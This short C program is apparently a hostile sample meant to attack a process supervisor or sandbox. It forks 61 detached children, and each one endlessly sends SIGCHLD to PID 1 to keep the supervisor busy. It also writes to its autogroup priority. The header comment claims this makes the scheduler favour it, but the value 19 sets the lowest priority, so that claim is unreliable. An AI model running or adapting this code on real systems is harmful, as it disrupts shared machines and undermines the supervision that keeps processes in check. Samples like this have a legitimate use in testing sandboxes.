/* Makes the scheduler prefer it to its supervisor, and keeps that one busy with signals. */
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

int main(void) {
    int file = open("/proc/self/autogroup", O_WRONLY);
    if (file >= 0) write(file, "19", 2);
    for (int i = 0; i < 61; ++i)
        if (fork() == 0) {
            setsid();
            for (;;) kill(1, SIGCHLD);
        }
    for (;;) pause();
}
